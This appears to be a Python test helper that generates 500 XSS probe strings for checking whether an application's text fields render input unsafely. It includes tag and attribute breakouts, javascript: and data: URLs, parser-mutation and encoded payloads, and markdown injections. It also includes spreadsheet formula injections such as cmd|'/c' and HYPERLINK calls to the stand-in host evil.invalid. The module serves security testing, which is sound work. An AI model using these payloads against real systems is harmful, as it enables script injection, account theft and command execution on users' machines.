"""Five hundred texts that would run a script in a page that shows them carelessly, made by combining what each needs.

Each calls `z(NUMBER)`, so that one that runs says which it was; elements have an `x` of their own. Each fits every text field: at most 80 characters, no white space
at its ends, no control character but a line feed.
"""

from itertools import product

LIMIT = 80

# What runs by itself, or when it is pressed. @ is the call.
_ELEMENTS = [
    "<img src=q onerror=@>", "<svg onload=@>", "<script>@</script>", "<iframe onload=@>", "<details open ontoggle=@>",
    "<input autofocus onfocus=@>", "<video src=q onerror=@></video>", "<audio src=q onerror=@>", "<body onload=@>",
    "<style onload=@></style>", "<svg><script>@</script></svg>", "<select autofocus onfocus=@></select>",
    "<textarea autofocus onfocus=@></textarea>", "<object data=q onerror=@></object>", "<link rel=stylesheet href=q onerror=@>",
    "<p tabindex=1 onfocus=@>p", "<image src=q onerror=@>", "<video><source onerror=@></video>",
    "<svg><animate onbegin=@ attributeName=x dur=1>", "<svg><set onbegin=@ attributeName=x dur=1>",
    "<a href=javascript:@>t</a>", "<form><button formaction=javascript:@>t", "<iframe src=javascript:parent.@>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>", "<svg><a xlink:href=javascript:@><text y=9>t",
]
# What leaves the place in which a text may stand.
_LEAVES = ["", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "</noscript>", "</select>", "</template>"]


def _swapped(text: str) -> str:
    """Small and capital letters in turn, in tags and attributes; the call stays."""
    return "".join(c.upper() if i % 2 else c for i, c in enumerate(text))


# How the same is written otherwise.
_SPELLINGS = [
    lambda element, call: element.replace("@", call),
    lambda element, call: _swapped(element).replace("@", call),
    lambda element, call: element.replace(" ", "/").replace("@", call),
    lambda element, call: element.replace(" ", "\n").replace("@", call),
    lambda element, call: element.replace("=@", f"='{call}'").replace("@", call),
    lambda element, call: element.replace("=@", f'="{call}"').replace("@", call),
    lambda element, call: element.replace("=@", "=" + call.replace("(", "&#40;").replace(")", "&rpar;")).replace("@", call),
    lambda element, call: element.replace("@", call.replace("z(", "self['z'](")) if "'<" not in element else None,
    lambda element, call: element.replace("@", call.replace("(", "`").replace(")", "`")),
    lambda element, call: element.replace("@", f"eval('{call}')") if "'<" not in element else None,
    lambda element, call: element.rstrip(">").replace("@", call) + "//" if element.endswith("@>") else None,
]

# Out of an attribute, without a bracket.
_ATTRIBUTES = [
    f"{quote}{space}{attribute}=@{end}" for quote, end in (('"', ' a="'), ("'", " a='"), ("q", ""))
    for space in (" ", "\n") for attribute in ("autofocus onfocus", "tabindex=1 onfocus", "onclick", "style=color:red onclick")
]
# Out of a script's string, or a template's.
_STRINGS = [
    "';@//", '";@//', "'-@-'", '"-@-"', "\\';@//", '\\";@//', "${@}", "`;@//", "`-@-`", "'+@+'", '"+@+"', "';@;'", '";@;"',
    "'\n;@//", "*/@/*", "\\u0027;@//", "{{@}}", "#{@}", "<%=@%>", "{{constructor.constructor('@')()}}", "'}});@;({a:{b:'",
]
# Addresses that run.
_ADDRESSES = [
    "javascript:@", "JavaScript:@", "java\nscript:@", "javascript&colon;@", "&#106;avascript:@", "javascript://%0A@",
    "javascript:/**/@", "data:text/html,<script>parent.@</script>", "data:text/html;charset=utf-8,<svg onload=parent.@>",
    "vbscript:@", "view-source:javascript:@", "//evil.invalid/@", "https://evil.invalid/@.js", "blob:@",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@'/>", "java&NewLine;script:@", "javascript:@//https://a",
]
# What a parser that reads twice makes something else of.
_MUTATIONS = [
    "<svg></p><style><a id=\"</style><img src=q onerror=@>\">", "<noscript><p title=\"</noscript><img src=q onerror=@>\">",
    "<math><mtext><style><img src=q onerror=@></style>", "<math><annotation-xml encoding=text/html><svg onload=@>",
    "<svg><desc><img src=q onerror=@>", "<svg><foreignObject><img src=q onerror=@>", "<svg><title><img src=q onerror=@>",
    "<table><td><svg onload=@>", "<table><tr><img src=q onerror=@>", "<select><option><img src=q onerror=@>",
    "<!--><img src=q onerror=@>-->", "<!--a--!><img src=q onerror=@>", "<![CDATA[<img src=q onerror=@>]]>", "<?<img src=q onerror=@>",
    "</a<img src=q onerror=@>", "<<img src=q onerror=@>", "<img src=q alt=\"a\"\"onerror=@>", "<img src=q onerror=@ ", "<svg/onload=@ <b",
    "<a\nb='>'><img src=q onerror=@>", "<template><img src=q onerror=@></template>", "<xmp><p title='</xmp><img src=q onerror=@>'>",
    "<p title='</textarea><img src=q onerror=@>'>", "<b id=\"`onmouseover=@\">", "<form id=x><input name=y><svg onload=@>",
]
# Written as something that a second decoding turns into markup.
_ENCODED = [
    "&lt;img src=q onerror=@&gt;", "&amp;lt;img src=q onerror=@&amp;gt;", "&#60;img src=q onerror=@&#62;", "&#x3c;svg onload=@&#x3e;",
    "%3Cimg%20src=q%20onerror=@%3E", "%253Csvg%2520onload=@%253E", "\\u003cimg src=q onerror=@\\u003e", "\\x3csvg onload=@\\x3e",
    "+ADw-script+AD4-@+ADw-/script+AD4-", "\uff1cimg src=q onerror=@\uff1e", "\u2039svg onload=@\u203a", "\ufeff<svg onload=@>",
    "\u202e<svg onload=@>", "\u2028<svg onload=@>a", "&quot; onclick=@ a=&quot;", "\u02bc\u02ba><svg onload=@>", "&lt;script&gt;@&lt;/script&gt;",
]
# Markdown, for the export and for whatever shows it.
_MARKDOWN = [
    "[a](javascript:@)", "![a](javascript:@)", "![a](q\"onerror=\"@)", "<javascript:@>", "[a]: javascript:@", "[a](<javascript:@>)",
    "```\n<svg onload=@>", "> <svg onload=@>", "- <svg onload=@>", "| <svg onload=@> |", "a\n\n<svg onload=@>", "\\<svg onload=@>",
    "`<svg onload=@>", "~~~\n</code><svg onload=@>", "# <svg onload=@>", "*<svg onload=@>*", "&lt;svg onload=@>\n===",
]
# A spreadsheet's formulas.
_FORMULAS = [
    f"{lead}{formula}" for lead in ("=", "+", "-", "@@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u200b=")
    for formula in ("HYPERLINK(\"https://evil.invalid/@\";\"a\")", "cmd|'/c @'!A1", "1+1;@")
]


def payloads(count: int = 500) -> list[str]:
    """So many of them, all different, always the same ones; kinds come mixed."""
    special = [[one] for group in (_ATTRIBUTES, _STRINGS, _ADDRESSES, _MUTATIONS, _ENCODED, _MARKDOWN) for one in group]
    made = [one.replace("@@", "\0").replace("@", "{call}").replace("\0", "@") for one in _FORMULAS]
    templates = [one[0].replace("@", "{call}") for one in special] + made
    wanted = count - len(templates)
    # A step that shares no factor with their number walks through all combinations, all kinds early.
    combinations = list(product(range(len(_ELEMENTS)), range(len(_LEAVES)), range(len(_SPELLINGS))))
    place, taken = 0, 0
    elements: list[tuple[int, int, int]] = []
    while taken < wanted * 3:
        elements.append(combinations[place % len(combinations)])
        place += 1009
        taken += 1

    found: list[str] = []
    seen: set[str] = set()

    def keep(make) -> None:
        call = f"z({len(found) + 1})"
        text = make(call)
        if text and len(text) <= LIMIT and text == text.strip() and text.replace(call, "") not in seen:
            seen.add(text.replace(call, ""))
            found.append(text)

    sources = [lambda call, t=template: t.replace("{call}", call) for template in templates]
    others = [
        lambda call, e=element, l=leave, s=spelling: (spelled := _SPELLINGS[s](_ELEMENTS[e], call)) and _LEAVES[l] + spelled
        for element, leave, spelling in elements]
    while (sources or others) and len(found) < count:
        if others:
            keep(others.pop(0))
        if sources:
            keep(sources.pop(0))
    assert len(found) == count, len(found)
    return found
